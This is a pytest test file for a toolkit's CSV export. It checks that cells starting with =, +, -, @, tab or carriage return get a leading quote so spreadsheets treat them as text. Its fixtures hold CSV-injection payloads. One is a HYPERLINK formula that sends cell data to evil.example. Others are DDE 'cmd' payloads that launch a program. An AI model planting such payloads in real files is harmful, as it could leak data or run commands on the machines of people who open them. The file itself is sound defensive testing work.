"""CSV files the toolkit writes never carry formulas (issue 28, item 13; OWASP's CSV injection rule).

A cell a spreadsheet would run (starting with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return) is written with a leading ``'``; numbers stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any, Iterator

import pytest

import gatewaykit as gk
from gatewaykit.client.resources.session_media import session_media

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.fixture(autouse=True)
def _fresh_session_media() -> Iterator[None]:
    session_media.clear()
    yield
    session_media.clear()


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_gallery_save_neutralises_formulas_in_prompts(booked_client: gk.Client, tmp_path: Path) -> None:
    """Each hostile prompt comes back prefixed with ' (text in any spreadsheet); costs stay plain numbers."""
    for prompt in HOSTILE:
        booked_client.images.generate(model="image-pixels", prompt=prompt, width=256, height=256)
    gk.gallery().save(tmp_path)
    rows = _cells(tmp_path / "gallery.csv")
    assert [row["prompt"] for row in rows] == ["'" + prompt for prompt in HOSTILE]
    for row in rows:
        float(row["total_cost"])  # a number, not "'0.001"


def test_ledger_to_csv_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    """A model name, error message and tag from a gateway or a user; negative amounts stay numbers."""
    ledger = gk.Ledger(path=None)
    with ledger.tag("=cmd|' /C calc'!A0"):
        ledger.record(gk.CostRecord("chat", "@evil-model", "error", error_message="-1+1 broke", http_status=500))
    ledger.record(gk.CostRecord("chat", "chat-mini", "ok", usage={"prompt_tokens": 3, "cost": {"total_cost": 0.25}}))
    ledger.to_csv(tmp_path / "ledger.csv")
    first, second = _cells(tmp_path / "ledger.csv")
    assert first["model"] == "'@evil-model" and first["error_message"] == "'-1+1 broke"
    assert first["tags"] == "'=cmd|' /C calc'!A0"
    assert second["model"] == "chat-mini" and float(second["total_cost"]) == 0.25 and second["prompt_tokens"] == "3"


def test_a_negative_number_is_still_a_number(tmp_path: Path) -> None:
    """Only text is prefixed: -0.5 as a number is written as -0.5."""
    from gatewaykit.costs.csv_cells import safe_cell

    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) is None
    assert safe_cell("-0.5") == "'-0.5" and safe_cell("plain") == "plain" and safe_cell("") == ""
